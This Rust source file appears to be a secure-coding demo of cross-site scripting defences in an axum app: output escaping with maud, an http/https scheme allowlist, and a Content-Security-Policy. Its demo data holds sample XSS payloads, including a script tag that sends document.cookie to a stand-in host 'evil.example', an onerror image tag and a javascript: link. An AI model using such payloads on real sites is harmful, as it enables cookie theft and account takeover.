//! Cross-site scripting: user input in an HTML page is text, never markup. Escape for the
//! context (maud does it for text and attributes), allowlist URL schemes (escaping cannot make
//! `javascript:` safe), and a Content-Security-Policy as the second line.

use axum::Router;
use axum::http::{HeaderName, header};
use axum::response::{Html, IntoResponse};
use axum::routing::get;
use maud::{DOCTYPE, html};

/// A comment as users submit it: every field is untrusted.
#[derive(Debug, Clone)]
pub struct Comment {
    pub author: String,
    pub text: String,
    pub website: Option<String>,
}

/// `url` if it is safe as a link target: after trimming spaces, its scheme is `http` or `https`
/// (in any case), and it contains no control characters (browsers drop tabs and newlines from
/// URLs, so `java\tscript:` *is* `javascript:` to them). Anything else: `None`.
pub fn safe_link(url: &str) -> Option<&str> {
    let url = url.trim_matches(' ');
    if url.chars().any(char::is_control) {
        return None;
    }
    let scheme = url.split_once(':')?.0.to_ascii_lowercase();
    matches!(scheme.as_str(), "http" | "https").then_some(url)
}

/// The comments page: for each comment an `<article>` with the author in a `<strong>` (a link to
/// their website when `safe_link` accepts it, with `rel="nofollow ugc"`), then the text in a
/// `<p>`. Every user-supplied value is escaped: not one of them can add an element or an
/// attribute.
pub fn render(comments: &[Comment]) -> String {
    html! {
        (DOCTYPE)
        html {
            head { title { "Comments" } }
            body {
                @for c in comments {
                    article {
                        strong {
                            @match c.website.as_deref().and_then(safe_link) {
                                Some(url) => a href=(url) rel="nofollow ugc" { (c.author) },
                                None => (c.author),
                            }
                        }
                        p { (c.text) }
                    }
                }
            }
        }
    }
    .into_string()
}

/// Headers for every HTML page: a Content-Security-Policy that allows no inline or third-party
/// script (`default-src 'self'`, `script-src 'self'`, `object-src 'none'`, `base-uri 'none'`,
/// `frame-ancestors 'none'`), and `X-Content-Type-Options: nosniff`.
pub fn security_headers() -> [(HeaderName, &'static str); 2] {
    [
        (
            header::CONTENT_SECURITY_POLICY,
            "default-src 'self'; script-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'",
        ),
        (header::X_CONTENT_TYPE_OPTIONS, "nosniff"),
    ]
}

/// The demo's comments: what an attacker left on the page.
pub fn stored_comments() -> Vec<Comment> {
    vec![
        Comment {
            author: "Ada".into(),
            text: "Great post!".into(),
            website: Some("https://ada.example.com".into()),
        },
        Comment {
            author: "<img src=x onerror=alert(document.cookie)>".into(),
            text: "<script>fetch('https://evil.example/?c=' + document.cookie)</script>".into(),
            website: Some("javascript:alert(1)".into()),
        },
    ]
}

async fn comments_page() -> impl IntoResponse {
    (security_headers(), Html(render(&stored_comments())))
}

pub fn router() -> Router {
    Router::new().route("/comments", get(comments_page))
}
